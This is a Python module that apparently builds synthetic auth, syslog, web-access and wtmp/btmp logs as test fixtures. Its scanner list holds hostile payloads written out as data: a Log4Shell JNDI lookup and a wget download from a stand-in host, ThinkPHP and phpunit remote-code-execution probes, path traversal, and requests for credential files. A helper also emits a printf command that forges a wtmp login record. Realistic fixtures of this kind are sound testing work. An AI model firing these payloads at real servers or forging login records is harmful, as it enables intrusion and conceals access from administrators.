"""Logs and records of sign-ins as busy hosts have them: brute force, scanners, failures, all of it without effect."""

from __future__ import annotations

import struct
import time
from collections.abc import Iterable, Sequence

HOURS = 3600
DOMAIN = "203.0.113"


def spread(lines: Sequence[str], span_s: int = 20 * HOURS) -> list[tuple[float, str]]:
    """The lines with times that end a minute ago, evenly spread."""
    end = time.time() - 60
    step = span_s / max(len(lines), 1)
    return [(end - span_s + place * step, line) for place, line in enumerate(lines)]


def syslog(host: str, lines: Sequence[str]) -> str:
    """Lines of syslog as rsyslog writes them: time, host, `program[pid]: text`."""
    return "".join(
        f"{time.strftime('%b %e %H:%M:%S', time.localtime(when))} {host} {line}\n" for when, line in spread(lines)
    )


def auth(host: str, user: str) -> str:
    """A day of /var/log/auth.log on a machine that the internet can reach."""
    lines = []
    for number in range(60):
        lines += [
            f"sshd[{4000 + number}]: Invalid user admin{number} from {DOMAIN}.{number} port {40000 + number}",
            f"sshd[{4000 + number}]: Failed password for invalid user admin{number} from {DOMAIN}.{number} port {40000 + number} ssh2",
            f"sshd[{4100 + number}]: Failed password for root from {DOMAIN}.{number} port {41000 + number} ssh2",
            f"sshd[{4100 + number}]: Connection closed by authenticating user root {DOMAIN}.{number} port {41000 + number} [preauth]",
            f"CRON[{5000 + number}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            f"CRON[{5000 + number}]: pam_unix(cron:session): session closed for user root",
        ]
    lines += [
        f"sshd[6001]: Accepted publickey for {user} from 198.51.100.7 port 50022 ssh2: ED25519 SHA256:{'k' * 43}",
        f"sshd[6001]: pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)",
        "systemd-logind[512]: New session 91 of user " + user + ".",
        f"sudo:     {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/apt-get update",
        f"sudo:     {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
        f"sudo:     {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/tail -f /var/log/syslog",
        f"sudo:     {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/find /var/log -name '*.gz' -mtime +90 -delete",
        f"sudo:     {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/journalctl --vacuum-time=14d",
        "sudo: pam_unix(sudo:session): session opened for user root(uid=0) by " + user + "(uid=1000)",
        "sudo: pam_unix(sudo:session): session closed for user root",
        f"su: (to postgres) {user} on pts/0",
        "passwd[7001]: pam_unix(passwd:chauthtok): password changed for " + user,
        "useradd[7002]: new user: name=deploy, UID=1010, GID=1010, home=/home/deploy, shell=/bin/bash, from=/dev/pts/0",
        "usermod[7003]: change user 'deploy' shell from '/bin/sh' to '/bin/bash'",
        "groupadd[7004]: new group: name=metrics, GID=998",
        "useradd[7005]: new user: name=metrics, UID=998, GID=998, home=/var/lib/metrics, shell=/usr/sbin/nologin, from=none",
        "sshd[7006]: error: kex_exchange_identification: Connection closed by remote host",
        "sshd[7007]: Unable to negotiate with 203.0.113.9 port 60000: no matching host key type found. Their offer: ssh-rsa [preauth]",
        "polkitd(authority=local)[500]: Registered Authentication Agent for unix-process:99:1 (system bus name :1.7)",
    ]
    return syslog(host, lines)


def system(host: str) -> str:
    """A day of /var/log/syslog."""
    lines = ['rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="480"] rsyslogd was HUPed']
    for number in range(40):
        lines += [
            f"CRON[{3000 + number}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
            f"CRON[{3100 + number}]: (www-data) CMD ([ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean)",
            f"CRON[{3200 + number}]: (root) CMD (curl -fsS -m 10 --retry 5 https://hc-ping.example.org/uuid > /dev/null)",
            "systemd[1]: Starting apt-daily.service - Daily apt download activities...",
            "systemd[1]: apt-daily.service: Deactivated successfully.",
            f"kernel: [UFW BLOCK] IN=eth0 OUT= MAC=00 SRC={DOMAIN}.{number} DST=198.51.100.2 LEN=40 PROTO=TCP SPT=5000 DPT=23",
            f"kernel: docker0: port 1(veth{number:07x}) entered blocking state",
            f"kernel: veth{number:07x}: entered promiscuous mode",
            "kernel: python3[912]: segfault at 0 ip 00007f1 sp 00007ff error 4 in libfoo.so[7f1+1000]",
            "dbus-daemon[470]: [system] Successfully activated service 'org.freedesktop.hostname1'",
            "systemd-timesyncd[450]: Contacted time server 192.0.2.1:123 (0.debian.pool.ntp.org).",
            "smartd[600]: Device: /dev/sda [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed from 66 to 67",
        ]
    return syslog(host, lines)


SCANNED = (
    ("/.env", 404), ("/.git/config", 404), ("/wp-login.php", 404), ("/phpmyadmin/index.php", 404), ("/shell.php", 404),
    ("/cgi-bin/../../../../etc/passwd", 400), ("/?id=1%27%20UNION%20SELECT%201,2--", 403), ("/.aws/credentials", 403),
    ("/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", 404),
    ("/boaform/admin/formLogin?username=ec8&psd=ec8", 404), ("/actuator/health", 404), ("/wso.php", 404),
    ("/${jndi:ldap://203.0.113.66/a}", 404), ("/setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://203.0.113.66/m", 404),
    ("/wp-content/uploads/shell.php?cmd=id", 404), ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
)  # fmt: skip
VISITED = (
    ("GET", "/", 200), ("GET", "/assets/app.js?v=17", 200), ("POST", "/wp-admin/admin-ajax.php", 200),
    ("GET", "/search?q=union+square+select+hotels", 200), ("GET", "/docs/..%2e/guide", 404), ("POST", "/login", 302),
    ("GET", "/wp-content/uploads/2026/11/photo.jpg", 200), ("POST", "/api/v1/upload/images", 201),
    ("GET", "/blog/how-to-protect-etc-passwd?ref=../home", 200), ("GET", "/status?system=web1&run=daily", 200),
    ("GET", "/.well-known/acme-challenge/x", 200), ("GET", "/report.php?command=list&page=2", 200),
)  # fmt: skip


def web_access(rounds: int = 12) -> str:
    """An access log in the combined form: visitors, and scanners that get nothing."""
    requests = [
        *(f'"GET {path} HTTP/1.1" {status} 162 "-" "Mozilla/5.0 zgrab/0.x"' for path, status in SCANNED),
        *(f'"{verb} {path} HTTP/1.1" {status} 5120 "-" "Mozilla/5.0"' for verb, path, status in VISITED),
    ] * rounds
    return "".join(
        f"{DOMAIN}.{number % 250} - - [{time.strftime('%d/%b/%Y:%H:%M:%S %z', time.localtime(when))}] {request}\n"
        for number, (when, request) in enumerate(spread(requests))
    )


def utmp(kind: int, pid: int, line: str, user: str, host: str, when: float) -> bytes:
    """One record of utmp(5) as 64-bit and 32-bit Linux on Intel have it: 384 bytes."""
    return struct.pack(
        "<h2xi32s4s32s256shhiii4i20x", kind, pid, line.encode(), line[-4:].encode(), user.encode(), host.encode(),
        0, 0, 0, int(when), 0, 0, 0, 0, 0,
    )  # fmt: skip


def wtmp(users: Iterable[str]) -> bytes:
    """Starts of the machine and sessions of these users over the last week."""
    now = time.time()
    records = [utmp(2, 0, "~", "reboot", "6.1.0-18-amd64", now - 170 * HOURS)]
    for number, user in enumerate(users):
        for day in (6, 3, 1):
            begin = now - day * 24 * HOURS - number * 600
            records.append(utmp(7, 900 + number, f"pts/{number}", user, "198.51.100.7", begin))
            records.append(utmp(8, 900 + number, f"pts/{number}", "", "", begin + 1800))
    return b"".join(records)


def btmp() -> bytes:
    """Failed sign-ins from everywhere."""
    now = time.time()
    names = ("root", "admin", "oracle", "test", "ubuntu", "postgres")
    return b"".join(
        utmp(6, 1000 + number, "ssh:notty", names[number % 6], f"{DOMAIN}.{number % 250}", now - 40000 + number * 30)
        for number in range(600)
    )


def web_time() -> str:
    """The time of a line in an access log, an hour ago."""
    return time.strftime("%d/%b/%Y:%H:%M:%S %z", time.localtime(epoch()))


def epoch() -> int:
    """An hour ago, in seconds."""
    return int(time.time()) - HOURS


def append_wtmp(user: str, host: str) -> str:
    """Shell that adds a session of an hour ago to wtmp."""
    record = utmp(7, 950, "pts/5", user, host, epoch())
    octal = "".join(f"\\{byte:03o}" for byte in record)
    return f"printf '{octal}' >> /var/log/wtmp"
